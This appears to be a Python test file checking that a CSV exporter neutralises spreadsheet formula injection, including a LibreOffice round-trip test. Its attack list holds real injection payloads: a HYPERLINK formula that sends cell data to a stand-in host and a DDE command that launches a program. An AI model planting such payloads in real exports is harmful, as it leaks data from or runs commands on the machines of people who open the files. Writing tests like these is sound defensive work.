"""Cells of CSV files that a spreadsheet program shows and does not compute."""

import csv
import io
import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fustella.core.files.cells import csv_text, text_of

COMPUTED = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BEGINNINGS = st.sampled_from(("", "'", "''", *COMPUTED, *(f"'{sign}" for sign in COMPUTED)))
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.builds(str.__add__, BEGINNINGS, st.text(st.characters(exclude_categories=["Cs"]))))
def test_any_text_comes_back_and_none_begins_like_a_formula(text):
    ((cell, _),) = read(csv_text([(text, "x")]))
    assert not cell.startswith(COMPUTED)
    assert text_of(cell) == text


@pytest.mark.parametrize("text", ["", "Boat", "1 - 2", "a=b", "'tis", "'", "5 @ 3", " =1"])
def test_other_texts_are_written_as_they_are(text):
    assert csv_text([(text, "x")]) == f"{text},x\r\n"


def test_numbers_stay_numbers():
    assert csv_text([(-3, 2.5, "-3")]) == "-3,2.5,'-3\r\n"


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_spreadsheet_program_computes_none_of_them(tmp_path):
    path = tmp_path / "attacks.csv"
    path.write_text(csv_text([(text,) for text in ATTACKS]), encoding="utf-8-sig", newline="")
    where = f"-env:UserInstallation=file://{tmp_path}/office"
    command = ["soffice", where, "--headless", "--convert-to", "ods", "--outdir", tmp_path, path]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    path.unlink()
    command[4:] = ["csv", "--outdir", tmp_path, tmp_path / "attacks.ods"]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    cells = [row[0] for row in read(path.read_text(encoding="utf-8-sig"))]
    assert [text_of(cell).strip() for cell in cells] == [text.strip() for text in ATTACKS]
